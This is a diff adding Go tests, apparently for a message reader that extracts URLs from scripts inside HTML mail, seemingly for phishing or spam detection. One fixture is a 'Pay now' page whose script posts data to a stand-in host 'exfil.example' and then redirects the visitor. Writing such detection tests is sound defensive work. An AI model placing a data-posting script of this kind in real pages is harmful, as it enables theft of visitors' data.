@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"io"
 	"mime"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -169,5 +170,69 @@ func TestHeaderFilterDecoded(t *testing.T) {
 	want := []string{"header:Keywords see http://a.example/page", "header:X-Note plain http://b.example/"}
 	if strings.Join(got, "|") != strings.Join(want, "|") {
 		t.Errorf("header parts %q, want %q", got, want)
+	}
+}
+
+// TestScriptWords: the words of a script that hold a URL ("://", or its
+// slashes as JSON escapes them), each on a line, the same whatever the
+// pieces the script comes in; a word over maxScriptWord is passed over,
+// and what is kept stops at maxScriptURLs.
+func TestScriptWords(t *testing.T) {
+	script := "$.post('https://a.example/mail.php', {x: 1});\r\nwindow.location.href=\"http://b.example/go?a=1&b=2\";\n" +
+		`{"@context": "http://schema.org", "url": "https:\/\/c.example\/order\/1", "img": "https:\u002F\u002Fd.example\u002Fi.png"}` +
+		" var s = `see ftp://e.example/f` + '<a href=x>' + \"a:b//c\" + 'mailto:x@y.example';"
+	want := "https://a.example/mail.php\nhttp://b.example/go?a=1&b=2\nhttp://schema.org\n" +
+		`https:\/\/c.example\/order\/1` + "\n" + `https:\u002F\u002Fd.example\u002Fi.png` + "\nftp://e.example/f\n"
+	for n := 1; n <= len(script); n++ {
+		var s scriptWords
+		for b := []byte(script); len(b) > 0; {
+			k := min(n, len(b))
+			s.write(b[:k])
+			b = b[k:]
+		}
+		s.endWord()
+		if string(s.out) != want {
+			t.Fatalf("in pieces of %d: %q, want %q", n, s.out, want)
+		}
+	}
+
+	var s scriptWords
+	s.write([]byte("x = 'http://long.example/" + strings.Repeat("a", maxScriptWord) + "'; y = 'http://after.example/';"))
+	s.endWord()
+	if string(s.out) != "http://after.example/\n" {
+		t.Errorf("a word over maxScriptWord: %.100q", s.out)
+	}
+	s = scriptWords{}
+	for i := 0; i < 2*maxScriptURLs/32; i++ {
+		s.write([]byte(" http://many.example/" + strconv.Itoa(1000000+i)))
+	}
+	s.endWord()
+	if len(s.out) > maxScriptURLs || len(s.out) < maxScriptURLs-64 {
+		t.Errorf("kept %d bytes of words, want at most %d", len(s.out), maxScriptURLs)
+	}
+}
+
+// TestScriptURLs: a script's URLs are read from an HTML part, after its
+// visible text before it, with a reader that holds the whole script and
+// with one that drops it as it reads (ElideLong), a script of 300 KiB
+// too, its first URL in what is dropped; the script's other words are
+// not text.
+func TestScriptURLs(t *testing.T) {
+	filler := strings.Repeat("var a = b + c; // no address here\n", 300<<10/34)
+	for _, script := range []string{"", filler} {
+		in := message("<p>Pay now</p><script>$.post('https://exfil.example/data.php', d);\n"+script+"window.location.href = \"http://go.example/next\";</script><p>after</p>",
+			"Content-Type: text/html")
+		for _, opts := range [][]Option{nil, {ElideLong(4096)}} {
+			r := NewReader(strings.NewReader(in), opts...)
+			p, err := r.Next()
+			if err != nil {
+				t.Fatal(err)
+			}
+			body, _ := io.ReadAll(p.Body)
+			want := "Pay\nnow\nhttps://exfil.example/data.php\nhttp://go.example/next\nafter"
+			if got := strings.Join(strings.Fields(string(body)), "\n"); got != want {
+				t.Errorf("script of %d bytes, options %d: %.300q, want %q", len(script), len(opts), got, want)
+			}
+		}
 	}
 }
